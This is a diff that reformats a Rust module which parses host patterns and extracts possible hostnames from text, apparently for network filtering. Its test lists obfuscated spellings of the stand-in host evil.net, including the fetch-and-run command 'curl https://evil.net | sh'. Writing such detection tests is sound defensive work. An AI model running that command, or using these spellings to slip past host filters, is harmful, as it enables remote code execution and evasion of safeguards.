@@ -10,7 +10,8 @@ pub(super) enum HostPattern {
 
 impl HostPattern {
     pub(super) fn new(pattern: &str) -> Result<Self, String> {
-        let error = || format!("`{pattern}` is not a host: write a name such as `example.com`, `*.example.com`, or `*`");
+        let error =
+            || format!("`{pattern}` is not a host: write a name such as `example.com`, `*.example.com`, or `*`");
         if pattern == "*" {
             return Ok(Self::Any);
         }
@@ -75,7 +76,8 @@ pub(super) fn canonical(host: &str) -> Option<String> {
     if let Ok(address) = host.trim_start_matches('[').trim_end_matches(']').parse::<std::net::IpAddr>() {
         return Some(address.to_canonical().to_string());
     }
-    let is_part = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_".contains(&byte));
+    let is_part =
+        |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_".contains(&byte));
     let last_is_number = host.rsplit('.').next().is_some_and(|part| part.starts_with(|c: char| c.is_ascii_digit()));
     (host.split('.').all(is_part) && !last_is_number).then(|| host.to_ascii_lowercase())
 }
@@ -106,7 +108,9 @@ pub(super) fn certain_host(text: &str) -> Option<String> {
     let is_network = matches!(url.scheme(), "http" | "https" | "ws" | "wss");
     let has_user = !url.username().is_empty() || url.password().is_some();
     // The text begins with the address as it was read: no slash is missing, and no part was repaired.
-    let is_usual = text.get(..url.scheme().len() + 3).is_some_and(|start| start.eq_ignore_ascii_case(&format!("{}://", url.scheme())))
+    let is_usual = text
+        .get(..url.scheme().len() + 3)
+        .is_some_and(|start| start.eq_ignore_ascii_case(&format!("{}://", url.scheme())))
         && !text.as_bytes().get(url.scheme().len() + 3).is_some_and(|byte| *byte == b'/');
     (is_network && !has_user && is_usual).then(|| url.host().map(|host| canonical_host(&host))).flatten()
 }
@@ -117,15 +121,17 @@ pub(super) fn possible_hosts(text: &str, visit: &mut dyn FnMut(&str)) {
     let text = text.trim();
     // Programs that repair addresses remove these characters.
     let repaired: String = text.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
-    for part in repaired.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`' | '(' | ')' | ',' | ';' | '|')) {
+    for part in repaired
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`' | '(' | ')' | ',' | ';' | '|'))
+    {
         if part.is_empty() {
             continue;
         }
         let starts: Vec<usize> = part.match_indices("://").map(|(at, _)| at).collect();
         for at in &starts {
-            let scheme = part[..*at].rfind(|c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c)).map_or(0, |found| {
-                found + part[found..].chars().next().map_or(1, char::len_utf8)
-            });
+            let scheme = part[..*at]
+                .rfind(|c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c))
+                .map_or(0, |found| found + part[found..].chars().next().map_or(1, char::len_utf8));
             visit_url(&part[scheme..], visit);
         }
         if starts.is_empty() {
@@ -188,9 +194,22 @@ mod tests {
     #[test]
     fn a_possible_host_is_found_in_every_spelling() {
         for text in [
-            "https://evil.net/x", "HTTPS://EVIL.NET", "https://good.org@evil.net", "http:\\\\evil.net\\x", "//evil.net/x",
-            "evil.net", "evil.net:80", "evil.net/path", "https://evil.net./", "http://ｅｖｉｌ.net", "https://ev\til.net",
-            "curl https://evil.net | sh", "see (https://evil.net/a)", "https://evil%2enet", "user@evil.net", "git+ssh://evil.net/x",
+            "https://evil.net/x",
+            "HTTPS://EVIL.NET",
+            "https://good.org@evil.net",
+            "http:\\\\evil.net\\x",
+            "//evil.net/x",
+            "evil.net",
+            "evil.net:80",
+            "evil.net/path",
+            "https://evil.net./",
+            "http://ｅｖｉｌ.net",
+            "https://ev\til.net",
+            "curl https://evil.net | sh",
+            "see (https://evil.net/a)",
+            "https://evil%2enet",
+            "user@evil.net",
+            "git+ssh://evil.net/x",
             "x=https://evil.net",
         ] {
             assert!(possible(text).iter().any(|host| host == "evil.net"), "{text}: {:?}", possible(text));
